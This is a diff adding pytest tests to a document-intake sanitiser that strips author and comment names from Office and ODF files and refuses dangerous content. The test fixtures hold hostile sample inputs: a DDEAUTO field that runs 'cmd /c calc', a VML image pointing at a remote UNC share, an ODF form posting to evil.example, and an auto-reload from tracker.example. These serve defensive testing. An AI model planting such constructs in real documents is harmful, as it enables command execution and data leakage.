@@ -405,3 +405,74 @@ def test_odt_meta_authors_are_removed():
     assert list(stored)[0] == "mimetype"
     info = zipfile.ZipFile(io.BytesIO(intake(odt(extra=[("meta.xml", meta.encode())])).content)).infolist()[0]
     assert info.compress_type == zipfile.ZIP_STORED
+
+
+def test_a_part_that_is_xml_under_another_name_is_checked_too():
+    """Office finds the main part through its relationship, whatever its name; DDE there is refused."""
+    body = document('<w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"/></w:p>')
+    data = ooxml("docx", extra=[("word/main.dat", body.encode())])
+    assert "a DDE field" in refusal(data)
+
+
+def test_properties_in_a_part_named_in_other_case_are_removed():
+    stored = entries(intake(ooxml("docx", extra=[("DOCPROPS/CORE.XML", CORE.encode())])).content)
+    assert b"Jane Caseworker" not in stored["DOCPROPS/CORE.XML"]
+
+
+def test_names_of_comment_and_change_authors_are_removed():
+    body = document(
+        '<w:p><w:ins w:id="1" w:author="Jane Caseworker" w:date="2026-01-02T10:00:00Z"><w:r><w:t>Exit B</w:t></w:r>'
+        "</w:ins></w:p>"
+    )
+    comments = (f'<w:comments {W}><w:comment w:id="0" w:author="Sam Keyworker" w:initials="SK">'
+                "<w:p><w:r><w:t>Check the lock</w:t></w:r></w:p></w:comment></w:comments>")
+    people = ('<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">'
+              '<w15:person w15:author="Sam Keyworker"><w15:presenceInfo w15:providerId="AD" '
+              'w15:userId="S::sam.keyworker@refuge.example"/></w15:person></w15:people>')
+    sheet_comments = ('<comments xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><authors>'
+                      "<author>Jane Caseworker</author></authors><commentList/></comments>")
+    parts = [("word/comments.xml", comments.encode()), ("word/people.xml", people.encode())]
+    docx = ooxml("docx", body=body, extra=parts)
+    stored = entries(intake(docx).content)
+    everything = b"".join(stored.values())
+    assert b"Jane" not in everything and b"Sam" not in everything and b"refuge.example" not in everything
+    assert b"Exit B" in stored["word/document.xml"] and b"Check the lock" in stored["word/comments.xml"]
+    xlsx = entries(intake(ooxml("xlsx", extra=[("xl/comments1.xml", sheet_comments.encode())])).content)
+    assert b"Jane" not in xlsx["xl/comments1.xml"]
+
+
+def test_loose_vml_as_office_writes_it_is_checked_without_being_refused_as_damaged():
+    loose = b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><br></v:shape></xml>'
+    assert intake(ooxml("xlsx", extra=[("xl/drawings/vmlDrawing1.vml", loose)])).kind == "office"
+    hostile = loose.replace(b"<br>", b'<br><v:imagedata o:href="\\\\files.example\\share\\p.png"/>')
+    assert "a drawing (VML)" in refusal(ooxml("xlsx", extra=[("xl/drawings/vmlDrawing1.vml", hostile)]))
+
+
+def test_office_add_in_is_refused():
+    data = ooxml("docx", extra=[("word/webextensions/webextension1.xml", b"<we:webextension xmlns:we='x'/>")])
+    assert "an Office add-in (web extension)" in refusal(data)
+
+
+@pytest.mark.parametrize(
+    ("body", "found"),
+    [
+        ('<text:p><form:form xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
+         'xlink:href="https://evil.example/collect" form:method="post"/></text:p>', "a form that sends"),
+    ],
+)
+def test_odt_form_that_sends_is_refused(body, found):
+    assert found in refusal(odt_with(odt_content(body)))
+
+
+def test_odt_meta_that_reloads_from_an_address_is_refused():
+    meta = (f'<office:document-meta {ODF_NS}><office:meta>'
+            '<meta:auto-reload xlink:href="https://tracker.example/next.odt" meta:delay="PT0S"/>'
+            "</office:meta></office:document-meta>")
+    assert "loaded from another address" in refusal(odt(extra=[("meta.xml", meta.encode())]))
+
+
+def test_word_document_variables_are_removed():
+    settings = (f'<w:settings {W}><w:docVars><w:docVar w:name="CaseOwner" w:val="Jane Caseworker"/></w:docVars>'
+                '<w:defaultTabStop w:val="720"/></w:settings>')
+    stored = entries(intake(ooxml("docx", extra=[("word/settings.xml", settings.encode())])).content)
+    assert b"Jane" not in stored["word/settings.xml"] and b"defaultTabStop" in stored["word/settings.xml"]
